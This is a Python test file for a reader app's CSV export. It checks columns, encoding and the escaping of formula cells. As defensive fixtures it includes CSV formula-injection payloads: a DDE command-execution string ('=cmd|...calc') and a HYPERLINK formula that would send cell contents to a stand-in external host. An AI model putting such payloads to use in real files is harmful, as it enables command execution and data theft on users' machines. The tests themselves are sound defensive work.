"""The table for spreadsheets."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import duckdb
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.export.articles import ferry
from tests.export.libreoffice import LIBREOFFICE, opened
from tests.export.noted import noted_ferry
from tests.export.strategies import annotated_articles
from tui_reader.export import find_export
from tui_reader.export.spreadsheet import defused
from tui_reader.export.writers.csv import COLUMNS, to_csv
from tui_reader.model import AnnotatedArticle

FIGURES = {"strength", "confidence", "statements", "words", "share"}


def rows_of(table: str) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them."""
    return list(csv.DictReader(io.StringIO(table, newline="")))


def test_statements_sources_and_names_are_rows() -> None:
    """One table, in which the first column says what a row is."""
    export = find_export("csv")
    whole = (export.head + export.write(ferry())).encode().decode("utf-8-sig")
    rows = rows_of(whole)
    assert [(row["row"], row["speaker"] or row["text"]) for row in rows] == [
        ("quote", "Ida Marsh"), ("claim", "the narrator"), ("source", "Ida Marsh"), ("name", "Ida Marsh")
    ]  # fmt: skip
    assert rows[0]["text"] == "“The engine is worn out,” … “and so are we.”"
    assert [row["cue"] for row in rows] == ["said", "", "", ""]
    assert rows[0]["link"].startswith("https://example.org/a#:~:text=")
    assert (rows[1]["strength"], rows[1]["reasons"]) == ("0.40", "an absolute: no other")
    assert {row["article"] for row in rows} == {"Ferry stops for a month"}
    assert {(row["status"], row["note"]) for row in rows} == {("", "")}


def test_notes_and_ticks_have_their_columns() -> None:
    """A statement has the tick and the notes on its words; other words that somebody noted have rows of their own, defused."""
    export = find_export("csv")
    rows = rows_of((export.head + export.write(noted_ferry())).encode().decode("utf-8-sig"))
    told = [(row["row"], row["status"], row["note"]) for row in rows]
    assert told[:3] == [
        ("quote", "", "call her · doubtful: since <when>? (Jo Pike)"),
        ("claim", "checked", "'=two | boats"),
        ("note", "needs source", ""),
    ]
    assert rows[2]["text"] == "first stop"
    assert rows[2]["link"] == "https://example.org/a#:~:text=first%20stop"
    assert {(row["status"], row["note"]) for row in rows[3:]} == {("", "")}


def test_a_spreadsheet_knows_the_encoding() -> None:
    """The byte order mark comes first and once, and lines end as RFC 4180 has it."""
    export = find_export("csv")
    assert export.head.startswith("\ufeffrow,id,")
    assert export.head.endswith(",note\r\n")
    assert "\ufeff" not in export.write(ferry())
    assert export.write(ferry()).endswith("\r\n")


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2 %", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_a_formula_is_text(cell: str) -> None:
    """What a spreadsheet would compute, it shows; a plain cell stays."""
    assert defused(cell) == f"'{cell}"
    assert defused("1 = 1") == "1 = 1"


@given(annotated_articles(), st.text(max_size=4))
@example(ferry(), "=cmd|' /C calc'!A0")
def test_no_cell_is_a_formula_and_none_breaks_its_row(annotated: AnnotatedArticle, title: str) -> None:
    """Whatever an article holds, each row has all columns, and no cell begins as a formula does."""
    article = replace(annotated.article, title=title)
    table = list(csv.reader(io.StringIO(to_csv(replace(annotated, article=article)), newline="")))
    assert all(len(row) == len(COLUMNS) for row in table)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) or "\n" in cell for row in table for cell in row)


def harmful_table(folder: Path) -> Path:
    """The little article as a file, under a title that is a formula, with commas, quotation marks and letters of many scripts."""
    one = noted_ferry()
    title = '=HYPERLINK("https://x.example?"&A1; "Fähre, “渡船”")'
    export = find_export("csv")
    path = folder / "ferry.csv"
    path.write_bytes((export.head + export.write(replace(one, article=replace(one.article, title=title)))).encode())
    return path


def test_a_program_that_is_told_nothing_of_the_table_reads_it(tmp_path: Path) -> None:
    """Separators, quotation marks, the encoding and the names of the columns are found by DuckDB, and every cell is as written."""
    path = harmful_table(tmp_path)
    found = duckdb.read_csv(str(path), all_varchar=True)
    assert tuple(found.columns) == COLUMNS
    written = rows_of(path.read_bytes().decode("utf-8-sig"))
    assert [tuple(cell or "" for cell in row) for row in found.fetchall()] == [tuple(row.values()) for row in written]


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_table(tmp_path: Path) -> None:
    """Each cell stands in its row and column as written, figures and days can be reckoned with, and nothing is computed."""
    path = harmful_table(tmp_path)
    head, *rows = opened(path, tmp_path / "office")
    assert tuple(cell.value for cell in head) == COLUMNS
    assert not any(cell.formula for row in rows for cell in row)
    for shown, written in zip(rows, rows_of(path.read_bytes().decode("utf-8-sig")), strict=True):
        cells = dict(zip(COLUMNS, shown, strict=False))
        for name in COLUMNS:
            cell = cells.get(name)
            kind, value = (cell.kind, cell.value) if cell else ("empty", "")
            if name in FIGURES and written[name]:
                assert (kind, float(value)) == ("float", float(written[name]))
            else:
                assert value == written[name]
                assert kind == (("date" if name == "published" else "string") if value else "empty")
